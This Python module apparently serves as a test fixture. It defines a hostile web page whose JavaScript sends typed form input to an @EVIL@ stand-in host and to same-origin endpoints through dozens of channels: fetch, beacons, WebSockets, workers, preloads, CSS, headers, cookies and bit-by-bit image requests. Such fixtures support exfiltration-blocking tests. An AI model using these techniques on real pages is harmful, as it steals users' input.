"""A hostile page that tries every way out it knows, once while typing and once when its form is submitted."""

from __future__ import annotations

FORM = """<!doctype html><meta charset="utf-8"><title>Form</title><link rel="icon" href="/icon.png">
<form method="post" action="/send"><input name="name"><button>Send</button></form>
<img src="@EVIL@/0.png"><img src="@EVIL@/1.png"><img src="/icon.png"><a id="known" href="/known">x</a>
<script>const KNOWN = ["/ping", "/frame", "/sw.js", "/shared.js", "/bit0", "/bit1"], EVIL = "@EVIL@";</script>
<script src="/attack.js"></script>"""

SERVICE_WORKER = """
let secret = "";
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("message", (event) => {
  const {v, evil} = event.data;
  secret = v;
  for (const to of [evil + "/sw?d=" + v, "/sw?d=" + v]) fetch(to, {mode: "no-cors"}).catch(() => 0);
  try { new WebSocket(evil.replace("http", "ws") + "/swws?d=" + v); } catch (e) {}
});
addEventListener("fetch", (event) => {
  if (secret && event.request.method === "POST") fetch("/swpost", {method: "POST", body: secret}).catch(() => 0);
});"""

SHARED_WORKER = """onconnect = (event) => { event.ports[0].onmessage = ({data: {v, evil}}) => {
  fetch(evil + "/shared?d=" + v, {mode: "no-cors"}).catch(() => 0);
  fetch("/shared?d=" + v, {method: "POST", body: v}).catch(() => 0);
  try { new WebSocket(evil.replace("http", "ws") + "/sharedws?d=" + v); } catch (e) {} }; };"""

ATTACK = r"""
const quiet = (f) => { try { const p = f(); p?.catch?.(() => 0); return p; } catch (e) {} };
const add = (tag, more, parent = document.body) => quiet(() => {
  const e = document.createElement(tag);
  for (const [key, value] of Object.entries(more)) e.setAttribute(key, value);
  parent.append(e); return e; });
const register = ServiceWorkerContainer.prototype.register;   // in case somebody replaced the other
quiet(() => register.call(navigator.serviceWorker, "/sw.js"));
let shared; quiet(() => { shared = new SharedWorker("/shared.js"); shared.port.start(); });
fetch("/ping"); fetch("/bit0"); fetch("/bit1");
fetch("/ping", {headers: {"X-Http-Method-Override": "DELETE"}});

function attack(v, turn) {
  const b = btoa(v).replaceAll("=", ""), places = [EVIL, location.origin];
  const q = (where, name, on = EVIL) => `${on}/${name}?turn=${turn}&d=${encodeURIComponent(v)}`;
  for (const on of places) {
    const u = (name) => q("", name, on);
    quiet(() => fetch(u("get"), {mode: "no-cors"}));
    quiet(() => fetch(u("post"), {method: "POST", mode: "no-cors", body: v}));
    quiet(() => fetch(u("put"), {method: "PUT", body: v}));
    quiet(() => fetch(u("preflight"), {headers: {["x-" + b]: "1"}}));
    quiet(() => fetch(u("keepalive"), {method: "POST", mode: "no-cors", keepalive: true, body: v}));
    quiet(() => fetchLater(u("later"), {activateAfter: 0}));
    quiet(() => navigator.sendBeacon(u("beacon"), v));
    quiet(() => { const x = new XMLHttpRequest(); x.open("POST", u("xhr")); x.send(v); });
    quiet(() => new EventSource(u("events")));
    quiet(() => new WebSocket(u("ws").replace("http", "ws")));
    quiet(() => new WebSocketStream(u("wss").replace("http", "ws")));
    quiet(() => new WebTransport(u("wt").replace("http:", "https:")));
    quiet(() => import(u("module")));
    quiet(() => new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(u("imported"))})`]))));
    quiet(() => new Worker(URL.createObjectURL(new Blob([
      `fetch(${JSON.stringify(u("worker"))}, {mode: "no-cors"}).catch(() => 0)`]))));
    quiet(() => new AudioContext().audioWorklet.addModule(u("worklet")));
    quiet(() => CSS.paintWorklet.addModule(u("paint")));
    quiet(() => navigator.credentials.get({identity: {providers: [{configURL: u("fedcm"), clientId: b}]}}));
    quiet(() => new PaymentRequest([{supportedMethods: u("pay")}], {total: {label: "x", amount: {currency: "EUR",
      value: "1"}}}).canMakePayment());
    for (const rel of ["stylesheet", "prefetch", "modulepreload", "prerender", "manifest", "icon"])
      add("link", {rel, href: u("link-" + rel)}, document.head);
    for (const as of ["image", "script", "fetch", "font"])
      add("link", {rel: "preload", as, href: u("preload-" + as), crossorigin: ""}, document.head);
    for (const tag of ["img", "script", "video", "embed", "iframe", "track", "source"]) add(tag, {src: u(tag)});
    add("object", {data: u("object")});
    add("iframe", {srcdoc: `<img src="${u("srcdoc")}"><meta http-equiv=refresh content="0; url=${u("srcdocmeta")}">`});
    const boxed = `<script>fetch("${u("sandbox")}", {mode: "no-cors"})</` + "script>";
    add("iframe", {sandbox: "allow-scripts", srcdoc: boxed});
    add("style", {}).textContent = `@import "${u("import")}"; body { background: url("${u("css")}") }
      @font-face { font-family: a; src: url("${u("font")}") } p { font-family: a }`;
    document.body.insertAdjacentHTML("beforeend", `<p>x</p><svg><image href="${u("svg")}"></svg>`);
    const rules = Object.assign(document.createElement("script"), {type: "speculationrules"});
    rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [u("speculated")]}],
                                        prerender: [{source: "list", urls: [u("prerendered")]}]});
    document.head.append(rules);
    quiet(() => window.open(u("popup"), "_blank", "noopener"));
    quiet(() => Object.assign(document.createElement("a"), {href: u("download"), download: "x"}).click());
    quiet(() => Object.assign(document.createElement("a"), {href: "#", ping: u("ping")}).click());
    for (const method of ["get", "post"]) {
      const f = add("form", {method, action: u("form" + method), target: "_blank"});
      add("input", {name: "d", value: v}, f); quiet(() => f.submit()); }
    add("iframe", {src: "mailto:x@example.org?body=" + v});
    if (turn !== "typing") continue;    // at the press these would replace the submission itself
    add("meta", {"http-equiv": "refresh", content: `0; url=${u("meta")}`}, document.head);
    quiet(() => { location.href = u("location"); });
  }
  for (const name of ["Priority", "Upgrade-Insecure-Requests", "User-Agent", "Accept", "Accept-Language", "X-New",
      "DPR", "Authorization", "Content-Type", "Cache-Control", "Range", "Last-Event-ID", "If-None-Match", "Width",
      "Save-Data", "Sec-CH-Width", "Viewport-Width", "X-Http-Method-Override", "Purpose", "TE", "Date", "Via", "DNT"])
    quiet(() => fetch("/ping", {headers: {[name]: b}, cache: "reload"}));
  quiet(() => fetch("/ping", {headers: {"X-Http-Method-Override": "DELETE"}, cache: "reload"}));
  add("iframe", {src: "/frame", width: "4821", height: "3"});
  document.cookie = `stolen=${b}; path=/`;
  quiet(() => fetch("/ping", {cache: "reload"}));
  history.replaceState(0, "", "/?d=" + b);
  quiet(() => fetch("/ping", {cache: "reload", referrerPolicy: "unsafe-url"}));
  quiet(() => fetch(EVIL + "/0.png", {cache: "reload", mode: "no-cors", referrerPolicy: "unsafe-url"}));
  for (const c of b.slice(0, 8)) for (let i = 0; i < 8; i++) {    // each bit is one of two known addresses
    const bit = c.charCodeAt(0) >> i & 1;
    quiet(() => fetch(`${EVIL}/${bit}.png`, {cache: "no-store", mode: "no-cors"})); }
  const base = add("base", {href: EVIL}, document.head);
  quiet(() => fetch("known?d=" + b, {mode: "no-cors"})); base?.remove();
  shared?.port.postMessage({v, evil: EVIL});
  navigator.serviceWorker.controller?.postMessage({v, evil: EVIL});
  quiet(() => navigator.serviceWorker.ready.then((r) => r.active.postMessage({v, evil: EVIL})));
  window.name = v; localStorage.setItem("v", v);
  addEventListener("pagehide", () => {
    for (const on of places) { navigator.sendBeacon(q("", "hide", on), v);
      fetch(q("", "hidefetch", on), {method: "POST", keepalive: true, mode: "no-cors", body: v}).catch(() => 0); } });
}
addEventListener("load", () => setTimeout(() => { window.ready = true; }, 300));
document.querySelector("[name=name]").addEventListener("input", (event) => {
  attack(event.target.value, "typing"); setTimeout(() => { window.sent = true; }, 1000); });
document.querySelector("form").addEventListener("submit", () => attack(document.querySelector("[name=name]").value,
  "submit"));
"""
